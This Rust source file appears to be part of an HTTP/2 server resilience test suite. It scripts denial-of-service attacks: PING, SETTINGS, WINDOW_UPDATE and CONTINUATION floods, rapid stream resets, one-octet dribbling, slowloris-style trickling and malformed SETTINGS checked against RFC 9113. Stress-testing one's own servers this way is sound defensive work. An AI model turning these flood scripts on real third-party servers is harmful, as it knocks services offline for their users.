//! F: frames without end, and without haste.

use std::time::Duration;

use unwired_core::http2::Reason;
use unwired_core::http2::frame::flag;

use crate::attack::Play::{Cases, Script};
use crate::attack::{Attack, Case, Halt, Rule};
use crate::hostile::{Hostile, Over};
use crate::wire;

pub(crate) const ATTACKS: &[Attack] = &[
    Attack::new("F1", "PING", &[Script(pings)]),
    Attack::new("F2", "SETTINGS, empty and with 1000 parameters", &[Script(settings), Script(long_settings)]),
    Attack::new("F3", "frames that force resets, which nobody reads", &[Script(unread_resets)]),
    Attack::new("F4", "DATA and CONTINUATION of nothing", &[Script(empty_data), Script(empty_continuations)]),
    Attack::new("F5", "messages in DATA of one octet", &[Script(tiny_data)]),
    Attack::new("F6", "an answer asked for octet by octet", &[Script(dribble)]),
    Attack::new("F7", "answers asked for and not read", &[Script(unread_answers)]),
    Attack::new("F8", "fields without name and value", &[Script(nameless_fields)]),
    Attack::new("F9", "PRIORITY, in circles and on idle streams", &[Script(priorities)]),
    Attack::new(
        "F10",
        "WINDOW_UPDATE, of the connection and of a stream",
        &[Script(windows), Script(stream_windows)],
    ),
    Attack::new("F11", "frames of unknown types; GOAWAY", &[Script(unknown_frames), Script(goaways)]),
    Attack {
        is_slow: true,
        ..Attack::new(
            "F13",
            "a preface, a frame, a field block that trickle",
            &[Script(slow_preface), Script(slow_frame), Script(slow_block)],
        )
    },
    Attack::new("F15", "SETTINGS that are wrong, tiny or huge", &[Cases(SETTINGS), Script(tiny_fields)]),
];

fn pings(peer: &mut Hostile) -> Result<(), Halt> {
    peer.greet(&[])?;
    Ok(peer.flood(|n| wire::ping(u64::from(n).to_be_bytes()))?)
}

fn settings(peer: &mut Hostile) -> Result<(), Halt> {
    peer.greet(&[])?;
    Ok(peer.flood(|_| wire::settings(&[]))?)
}

fn long_settings(peer: &mut Hostile) -> Result<(), Halt> {
    peer.greet(&[])?;
    let frame = wire::settings(&[(wire::ENABLE_PUSH, 0); 1000]);
    Ok(peer.flood(|_| frame.clone())?)
}

fn unread_resets(peer: &mut Hostile) -> Result<(), Halt> {
    peer.greet(&[])?;
    peer.stop_reading();
    Ok(peer.flood_streams(|stream| [wire::call(stream), wire::window_update(stream, 0)].concat())?)
}

fn empty_data(peer: &mut Hostile) -> Result<(), Halt> {
    peer.greet(&[])?;
    let stream = peer.stream();
    peer.send(&wire::call(stream))?;
    Ok(peer.flood(|_| wire::data(stream, b"", false))?)
}

fn empty_continuations(peer: &mut Hostile) -> Result<(), Halt> {
    peer.greet(&[])?;
    let stream = peer.stream();
    peer.send(&wire::frame(wire::HEADERS, 0, stream, &wire::block(wire::REQUEST)))?;
    Ok(peer.flood(|_| wire::frame(wire::CONTINUATION, 0, stream, b""))?)
}

fn tiny_data(peer: &mut Hostile) -> Result<(), Halt> {
    peer.greet(&[])?;
    let message = wire::message(&wire::hello(&"x".repeat(30_000)));
    loop {
        let stream = peer.stream();
        let mut octets = wire::call(stream);
        for (n, octet) in message.chunks(1).enumerate() {
            octets.extend(wire::data(stream, octet, n + 1 == message.len()));
        }
        peer.send_in_window(&octets)?;
        peer.wait(Duration::from_secs(10), |seen| seen.take_fate(stream))?;
    }
}

fn dribble(peer: &mut Hostile) -> Result<(), Halt> {
    peer.seen().gives_windows = false;
    peer.greet(&[(wire::INITIAL_WINDOW_SIZE, 1)])?;
    let stream = peer.stream();
    peer.send(&wire::greeting(stream, &"x".repeat(10_000)))?;
    Ok(peer.flood(|_| wire::window_update(stream, 1))?)
}

/// Answers that wait to be read, at most.
const UNREAD: u32 = 100;

fn unread_answers(peer: &mut Hostile) -> Result<(), Halt> {
    peer.seen().gives_windows = false;
    peer.greet(&[(wire::INITIAL_WINDOW_SIZE, 0)])?;
    let streams = peer.seen().most_streams.unwrap_or(UNREAD).min(UNREAD);
    let name = "x".repeat(30_000);
    for _ in 0..streams {
        let stream = peer.stream();
        peer.send_in_window(&wire::greeting(stream, &name))?;
    }
    peer.stop_reading();
    let open = [
        wire::settings(&[(wire::INITIAL_WINDOW_SIZE, wire::LARGEST_WINDOW)]),
        wire::window_update(0, wire::LARGEST_WINDOW - wire::INITIAL_WINDOW as u32),
    ];
    peer.send(&open.concat())?;
    Ok(peer.hold()?)
}

fn nameless_fields(peer: &mut Hostile) -> Result<(), Halt> {
    peer.greet(&[])?;
    let block = wire::request_with([("", ""); 100]);
    Ok(peer.flood_streams(|stream| wire::headers(stream, &block, true))?)
}

fn priorities(peer: &mut Hostile) -> Result<(), Halt> {
    peer.greet(&[])?;
    Ok(peer.flood(|n| {
        let stream = 2 * (n % 100_000) + 1;
        [wire::priority(stream, stream + 2), wire::priority(stream + 2, stream)].concat()
    })?)
}

fn windows(peer: &mut Hostile) -> Result<(), Halt> {
    peer.greet(&[])?;
    Ok(peer.flood(|_| wire::window_update(0, 1))?)
}

fn stream_windows(peer: &mut Hostile) -> Result<(), Halt> {
    peer.greet(&[])?;
    let stream = peer.stream();
    peer.send(&wire::call(stream))?;
    Ok(peer.flood(|_| wire::window_update(stream, 1))?)
}

fn unknown_frames(peer: &mut Hostile) -> Result<(), Halt> {
    peer.greet(&[])?;
    let frame = wire::frame(0xa0, 0xff, 0, &[7; wire::FRAME_SIZE]);
    Ok(peer.flood(|_| frame.clone())?)
}

fn goaways(peer: &mut Hostile) -> Result<(), Halt> {
    peer.greet(&[])?;
    let stream = peer.stream();
    peer.send(&wire::call(stream))?;
    let frame = wire::goaway(0, Reason::NO_ERROR, &[b'x'; wire::FRAME_SIZE - 8]);
    Ok(peer.flood(|_| frame.clone())?)
}

/// Between two octets.
const TRICKLE: Duration = Duration::from_millis(500);

fn trickle(peer: &mut Hostile, octets: &[u8]) -> Result<(), Over> {
    for octet in octets.chunks(1) {
        peer.send(octet)?;
        peer.pause(TRICKLE)?;
    }
    peer.hold()
}

fn slow_preface(peer: &mut Hostile) -> Result<(), Halt> {
    Ok(trickle(peer, wire::PREFACE)?)
}

fn slow_frame(peer: &mut Hostile) -> Result<(), Halt> {
    peer.greet(&[])?;
    let stream = peer.stream();
    Ok(trickle(peer, &wire::call(stream))?)
}

fn slow_block(peer: &mut Hostile) -> Result<(), Halt> {
    peer.greet(&[])?;
    let stream = peer.stream();
    peer.send(&wire::frame(wire::HEADERS, 0, stream, &wire::block(wire::REQUEST)))?;
    Ok(trickle(peer, &wire::frame(wire::CONTINUATION, flag::END_HEADERS, stream, &[0; 100]))?)
}

const SETTINGS: &[Case] = &[
    Case {
        what: "SETTINGS_MAX_FRAME_SIZE 0",
        frames: |stream| with_settings(stream, wire::MAX_FRAME_SIZE, 0),
        rule: Rule::End("RFC 9113 §6.5.2"),
    },
    Case {
        what: "SETTINGS_INITIAL_WINDOW_SIZE 2^31",
        frames: |stream| with_settings(stream, wire::INITIAL_WINDOW_SIZE, 1 << 31),
        rule: Rule::End("RFC 9113 §6.5.2"),
    },
    Case {
        what: "SETTINGS_ENABLE_PUSH 2",
        frames: |stream| with_settings(stream, wire::ENABLE_PUSH, 2),
        rule: Rule::End("RFC 9113 §6.5.2"),
    },
    Case {
        what: "SETTINGS_HEADER_TABLE_SIZE 2^32-1",
        frames: |stream| with_settings(stream, wire::HEADER_TABLE_SIZE, u32::MAX),
        rule: Rule::Serve,
    },
];

fn with_settings(stream: u32, id: u16, value: u32) -> Vec<u8> {
    [wire::settings(&[(id, value)]), wire::greeting(stream, "you")].concat()
}

fn tiny_fields(peer: &mut Hostile) -> Result<(), Halt> {
    peer.greet(&[(wire::MAX_HEADER_LIST_SIZE, 1)])?;
    loop {
        let stream = peer.stream();
        peer.send_in_window(&wire::greeting(stream, "you"))?;
        peer.wait(Duration::from_secs(1), |seen| seen.take_fate(stream))?;
    }
}
